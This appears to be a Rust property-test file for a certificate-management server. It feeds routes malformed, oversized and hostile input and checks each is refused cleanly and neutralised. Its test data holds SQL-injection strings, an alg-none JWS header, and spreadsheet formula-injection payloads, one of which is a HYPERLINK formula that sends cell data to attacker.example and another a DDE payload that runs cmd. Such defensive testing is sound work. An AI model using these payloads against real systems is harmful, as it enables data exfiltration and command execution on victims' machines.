//! Hostile input, as property tests (proptest, few cases each so CI stays quick): the parsers
//! directly, then every route of the route table over real HTTP with malformed, oversized,
//! deeply nested, non-UTF-8 and SQL-laden input. Always a 4xx in the front door's own shape,
//! never a 5xx, a hang or a write.

mod common;

use std::sync::OnceLock;

use base64::{Engine, engine::general_purpose::STANDARD, engine::general_purpose::URL_SAFE_NO_PAD};
use certkeep_core::Scope;
use certkeep_server::{
    FrontDoor, acme::jws::Flattened, certcentral::csr::check, certcentral::params::parse_list,
    ncp::auth::signature_matches, routes,
};
use common::{NOW, TestServer};
use proptest::prelude::*;
use reqwest::Method;

/// Characters that break naive SQL, LIKE patterns, URLs and parsers.
const NASTY: &[&str] = &[
    "'",
    "\"",
    ";",
    "--",
    "/*",
    "*/",
    "%",
    "_",
    "\\",
    "' OR '1'='1",
    "1; DROP TABLE orders; --",
    "\0",
    "%00",
    "%25",
    "[",
    "]",
    "...",
    ">",
    "<=",
    "-",
    ",",
    "🔥",
    "\u{202e}",
    "NULL",
    "9223372036854775808",
    "-1",
    "1e9",
];

fn nasty() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![prop::sample::select(NASTY).prop_map(str::to_owned), "[a-z0-9 ]{0,6}"],
        0..5,
    )
    .prop_map(|parts| parts.concat())
}

fn list_key() -> impl Strategy<Value = String> {
    const PROPS: &[&str] = &[
        "status",
        "common_name",
        "date_created",
        "valid_till",
        "product_name_id",
        "id",
        "container_id",
        "organization_id",
        "search",
        "dns_names",
        "serial_number",
        "x",
        "status][0",
        "",
    ];
    prop_oneof![
        prop::sample::select(PROPS).prop_map(|p| format!("filters[{p}]")),
        Just("sort".to_owned()),
        Just("offset".to_owned()),
        Just("limit".to_owned()),
        nasty(),
    ]
}

fn list_query() -> impl Strategy<Value = String> {
    prop::collection::vec((list_key(), nasty(), any::<bool>()), 0..6).prop_map(|pairs| {
        let mut q = form_urlencoded::Serializer::new(String::new());
        let mut raw = Vec::new();
        for (k, v, encode) in pairs {
            if encode {
                q.append_pair(&k, &v);
            } else {
                raw.push(format!("{k}={v}"));
            }
        }
        [q.finish(), raw.join("&")].join("&")
    })
}

/// One server for the HTTP properties (the fixture takes a while to build).
fn server() -> &'static (tokio::runtime::Runtime, TestServer) {
    static SERVER: OnceLock<(tokio::runtime::Runtime, TestServer)> = OnceLock::new();
    SERVER.get_or_init(|| {
        let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let s = rt.block_on(TestServer::start());
        (rt, s)
    })
}

fn config(cases: u32) -> ProptestConfig {
    ProptestConfig { cases, failure_persistence: None, ..ProptestConfig::default() }
}

/// Asserts a refusal in `door`'s shape: CertCentral/Partner `errors[]`, NCP gateway or
/// service JSON, ACME problem+json, the console's HTML page.
fn assert_dialect(door: FrontDoor, status: u16, content_type: &str, body: &[u8], what: &str) {
    assert!(status < 500, "{what}: {status} {}", String::from_utf8_lossy(body));
    if status < 400 {
        return;
    }
    let v: serde_json::Value = serde_json::from_slice(body).unwrap_or_default();
    match door {
        FrontDoor::CertCentral | FrontDoor::Partner => {
            assert_eq!(content_type, "application/json", "{what}");
            assert!(v["errors"][0]["code"].is_string(), "{what}: {v}");
        }
        FrontDoor::Ncp => {
            assert!(content_type.starts_with("application/json"), "{what}");
            assert!(v["error"]["errorCode"].is_string() || v["returnCode"].is_string(), "{what}: {v}");
        }
        FrontDoor::Acme => {
            assert_eq!(content_type, "application/problem+json", "{what}");
            assert!(
                v["type"].as_str().is_some_and(|t| t.starts_with("urn:ietf:params:acme:error:")),
                "{what}: {v}"
            );
        }
        FrontDoor::Console => {
            assert_eq!(content_type, "text/html; charset=utf-8", "{what}");
            assert!(String::from_utf8_lossy(body).contains("role=\"alert\""), "{what}");
        }
        FrontDoor::Pki | FrontDoor::Ops => {}
    }
}

async fn send(
    method: &Method,
    path: &str,
    body: Option<Vec<u8>>,
    content_type: &str,
) -> (u16, String, Vec<u8>) {
    let s = &server().1;
    let mut req = s.client.request(method.clone(), format!("{}{path}", s.base));
    if path.starts_with("/services/v2") {
        req = req.header("X-DC-DEVKEY", &s.fx.admin_key);
    }
    if let Some(body) = body {
        req = req.header("content-type", content_type).body(body);
    }
    let resp = req.send().await.unwrap();
    let status = resp.status().as_u16();
    let ct = resp.headers().get("content-type").map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    (status, ct, resp.bytes().await.unwrap().to_vec())
}

/// Orders and requests of the fixture tenant: unchanged by anything refused.
fn inventory_size() -> (u64, u64) {
    let s = &server().1;
    let scope = Scope { account_id: s.fx.account, containers: None };
    let orders = s.store.list_orders(&scope, &Default::default(), NOW).unwrap().total;
    let requests = s.store.list_requests(&scope, &Default::default()).unwrap().0;
    (orders, requests)
}

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn list_parameters_parse_or_refuse_and_accepted_ones_run(raw in list_query()) {
        let (_, s) = server();
        let scope = Scope { account_id: s.fx.account, containers: None };
        for max in [Some(1000), None] {
            match parse_list(&raw, max) {
                Ok(p) => { s.store.list_orders(&scope, &p.query, NOW).unwrap(); }
                Err(e) => prop_assert!(e.status.is_client_error(), "{raw}: {e:?}"),
            }
        }
    }

    #[test]
    fn garbage_and_truncated_csrs_are_client_errors(bytes in prop::collection::vec(any::<u8>(), 0..2048), cut in any::<prop::sample::Index>()) {
        let (_, csr) = certkeep_ca::generate_csr(certkeep_ca::KeyAlgorithm::EcdsaP256, "example.com", &[]).unwrap();
        let der = STANDARD.decode(csr.lines().filter(|l| !l.starts_with("-----")).collect::<String>()).unwrap();
        let truncated = &der[..cut.index(der.len())];
        for input in [bytes.as_slice(), truncated] {
            let pem = format!("-----BEGIN CERTIFICATE REQUEST-----\n{}\n-----END CERTIFICATE REQUEST-----\n", STANDARD.encode(input));
            for text in [pem, String::from_utf8_lossy(input).into_owned()] {
                let e = check(Some(&text), "example.com", &[], true).unwrap_err();
                prop_assert!(e.status.is_client_error(), "{e:?}");
            }
        }
    }

    #[test]
    fn jws_parsing_never_panics(protected in prop::collection::vec(any::<u8>(), 0..200), payload in ".{0,64}", sig in prop::collection::vec(any::<u8>(), 0..80)) {
        for body in [
            serde_json::json!({"protected": URL_SAFE_NO_PAD.encode(&protected), "payload": payload, "signature": URL_SAFE_NO_PAD.encode(&sig)}).to_string().into_bytes(),
            protected.clone(),
        ] {
            if let Ok(jws) = Flattened::parse(&body) {
                let _ = (jws.header(), jws.payload(), jws.signature());
            }
        }
    }

    #[test]
    fn only_the_exact_ncp_signature_verifies(message in ".{0,80}", flip in any::<prop::sample::Index>()) {
        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, b"secret");
        let tag = aws_lc_rs::hmac::sign(&key, message.as_bytes());
        prop_assert!(signature_matches(b"secret", &message, &STANDARD.encode(tag.as_ref())));
        let mut bad = tag.as_ref().to_vec();
        let i = flip.index(bad.len());
        bad[i] ^= 1;
        prop_assert!(!signature_matches(b"secret", &message, &STANDARD.encode(&bad)));
    }
}

proptest! {
    #![proptest_config(config(24))]

    #[test]
    fn sql_metacharacters_in_filters_and_sort_over_http(raw in list_query()) {
        let before = inventory_size();
        let (status, ct, body) = server().0.block_on(send(&Method::GET, &format!("/services/v2/order/certificate?{raw}"), None, ""));
        assert_dialect(FrontDoor::CertCentral, status, &ct, &body, &raw);
        prop_assert_eq!(inventory_size(), before);
    }

    #[test]
    fn odd_ids_in_every_route(id in prop_oneof![
        Just("18446744073709551616".to_owned()), Just("-1".to_owned()), Just("0".to_owned()),
        Just("9223372036854775807".to_owned()), Just("1e3".to_owned()), Just("%27%20OR%201=1--".to_owned()),
        Just("%00".to_owned()), Just("%FF%FE".to_owned()), "[a-zA-Z0-9]{1,40}",
    ]) {
        let before = inventory_size();
        for r in routes().into_iter().filter(|r| r.path.contains('{')) {
            let mut path = String::new();
            let mut rest = r.path.as_str();
            while let Some(open) = rest.find('{') {
                path.push_str(&rest[..open]);
                path.push_str(&id);
                rest = &rest[rest[open..].find('}').unwrap() + open + 1..];
            }
            path.push_str(rest);
            let body = (r.method != Method::GET && r.method != Method::HEAD).then(|| b"{}".to_vec());
            let (status, ct, resp) = server().0.block_on(send(&r.method, &path, body, "application/json"));
            assert_dialect(r.door, status, &ct, &resp, &format!("{} {path}", r.method));
        }
        prop_assert_eq!(inventory_size(), before);
    }

    #[test]
    fn malformed_bodies_on_every_write_route(body in prop_oneof![
        prop::collection::vec(any::<u8>(), 0..300),
        Just(b"\xff\xfe{\"a\":\"\xc3\x28\"}".to_vec()),
        (1usize..5000).prop_map(|n| format!("{}{}", "[".repeat(n), "]".repeat(n)).into_bytes()),
        (1usize..5000).prop_map(|n| "{\"a\":".repeat(n).into_bytes()),
        Just(format!("{{\"certificate\":{{\"common_name\":\"example.com\",\"csr\":\"{}\"}}}}", "A".repeat(200_000)).into_bytes()),
        Just(b"{\"certificate\":{\"common_name\":\"example.com\",\"csr\":\"-----BEGIN CERTIFICATE REQUEST-----\\nMIIB\\n-----END CERTIFICATE REQUEST-----\"}}".to_vec()),
        Just(b"{\"protected\":\"eyJhbGciOiJub25lIn0\",\"payload\":\"\",\"signature\":\"\"}".to_vec()),
        Just(b"{\"protected\":1,\"payload\":[],\"signature\":{}}".to_vec()),
    ]) {
        let before = inventory_size();
        for r in routes().into_iter().filter(|r| r.method == Method::POST || r.method == Method::PUT || r.method == Method::PATCH) {
            let path = r.path.replace("{order}", "ssl_plus").replace(['{', '}'], "");
            let ct = if r.door == FrontDoor::Acme { "application/jose+json" } else { "application/json" };
            let (status, resp_ct, resp) = server().0.block_on(send(&r.method, &path, Some(body.clone()), ct));
            assert_dialect(r.door, status, &resp_ct, &resp, &format!("{} {path}", r.method));
        }
        prop_assert_eq!(inventory_size(), before);
    }
}

#[test]
fn the_http_layers_own_refusals_answer_in_the_doors_shape() {
    let (rt, s) = server();
    rt.block_on(async {
        for (door, path) in [
            (FrontDoor::CertCentral, "/services/v2/user"),
            (FrontDoor::Partner, "/partner-subscription/api/v1/account/subaccount"),
            (FrontDoor::Ncp, "/api/v2/certificate/certificateTypes"),
            (FrontDoor::Acme, "/acme/directory"),
            (FrontDoor::Console, "/console/inventory"),
        ] {
            let long_uri = s.client.get(format!("{}{path}?x={}", s.base, "a".repeat(40_000)));
            let big_header = s.client.get(format!("{}{path}", s.base)).header("x-big", "b".repeat(100_000));
            for (request, status) in [(long_uri, 414), (big_header, 431)] {
                let resp = request.send().await.unwrap();
                assert_eq!(resp.status(), status, "{path}");
                let ct = resp.headers()["content-type"].to_str().unwrap().to_owned();
                assert_dialect(door, status, &ct, &resp.bytes().await.unwrap(), path);
            }
        }
        // Bytes HTTP does not allow in a head never reach a handler: hyper answers a bare 400.
        let answer = s.raw("GET /services/v2/user HTTP/1.1\r\nHost: x\r\nX-DC-DEVKEY: a\0b\r\n\r\n").await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
        assert_eq!(s.get(Some(&s.fx.admin_key), "/user/me").await.0, 200);
    });
}

#[test]
fn huge_headers_are_refused_and_the_server_lives_on() {
    let (rt, s) = server();
    rt.block_on(async {
        let big = "a".repeat(200_000);
        let resp =
            s.client.get(format!("{}/services/v2/user", s.base)).header("X-DC-DEVKEY", &big).send().await;
        // hyper refuses the head (431) or closes the connection; either way no 2xx and no hang.
        if let Ok(resp) = resp {
            assert!(resp.status().is_client_error(), "{}", resp.status());
        }
        let many = (0..200).fold(s.client.get(format!("{}/services/v2/user", s.base)), |r, i| {
            r.header(format!("x-h{i}"), "v")
        });
        let _ = many.header("X-DC-DEVKEY", &s.fx.admin_key).send().await;
        let (status, _, _) = s.get(Some(&s.fx.admin_key), "/user/me").await;
        assert_eq!(status, 200);
    });
}

#[tokio::test]
async fn csv_cells_that_spreadsheets_would_run_are_neutralised() {
    let s = TestServer::start().await;
    let link = r#"=HYPERLINK("http://attacker.example/?x="&A1,"Click")"#;
    let container = s
        .store
        .create_container(&certkeep_core::NewContainer {
            account_id: s.fx.account,
            parent_id: Some(s.fx.root),
            name: link.into(),
            description: String::new(),
        })
        .unwrap();
    let email = "@SUM(1+1)*cmd|' /C calc'!A0";
    let id = s.insert_order(container, email);
    let resp = s
        .client
        .get(format!("{}/services/v2/order/certificate", s.base))
        .header("X-DC-DEVKEY", &s.fx.admin_key)
        .header("Accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let body = resp.text().await.unwrap();
    let row = body.lines().find(|l| l.starts_with(&format!("\"{id}\""))).unwrap();
    // Quoted as before, and prefixed with `'` so that no spreadsheet reads a formula.
    assert!(row.contains(r#","'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")","#), "{row}");
    // (e-mails are kept in lower case)
    assert!(row.contains(r#","'@sum(1+1)*cmd|' /c calc'!a0","#), "{row}");
    for formula in ["=", "@", "+", "\t", "\r"] {
        assert!(!body.contains(&format!(",\"{formula}")), "a cell starts with {formula:?}: {body}");
    }
}

#[test]
fn oversized_sorts_and_filter_lists_are_400s_in_json_and_csv() {
    let (rt, s) = server();
    let thousands_of_keys = format!("sort={}", vec!["id"; 2001].join(","));
    let every_field_twice = "sort=id,date_created,status,common_name,valid_till,product_name_id,\
        organization_id,container_id,user_id,email,is_renewed,-id";
    let many_ids = (0..1001).map(|i| format!("filters[id]={i}")).collect::<Vec<_>>().join("&");
    let many_statuses = vec!["filters[status][]=issued"; 1001].join("&");
    rt.block_on(async {
        for (query, code) in [
            (thousands_of_keys.as_str(), "invalid_sort|repeated"),
            (every_field_twice, "invalid_sort|repeated"),
            (many_ids.as_str(), "invalid_filter_value|id"),
            (many_statuses.as_str(), "invalid_filter_value|status"),
        ] {
            for accept in ["application/json", "text/csv"] {
                let resp = s
                    .client
                    .get(format!("{}/services/v2/order/certificate?{query}", s.base))
                    .header("X-DC-DEVKEY", &s.fx.admin_key)
                    .header("Accept", accept)
                    .send()
                    .await
                    .unwrap();
                let what = format!("{accept} {}", &query[..40]);
                assert_eq!(resp.status(), 400, "{what}");
                assert_eq!(resp.headers()["content-type"], "application/json", "{what}");
                let v: serde_json::Value = resp.json().await.unwrap();
                assert_eq!(v["errors"][0]["code"], code, "{what}");
            }
        }
        // Within the bounds, both answer in full.
        let (status, _, body) = s.get(Some(&s.fx.admin_key), "/order/certificate?sort=-valid_till,id").await;
        assert_eq!(status, 200, "{body}");
        let requests = vec!["filters[status]=pending"; 1000].join("&");
        let (status, _, body) = s.get(Some(&s.fx.admin_key), &format!("/request?{requests}")).await;
        assert_eq!(status, 200, "{body}");
    });
}
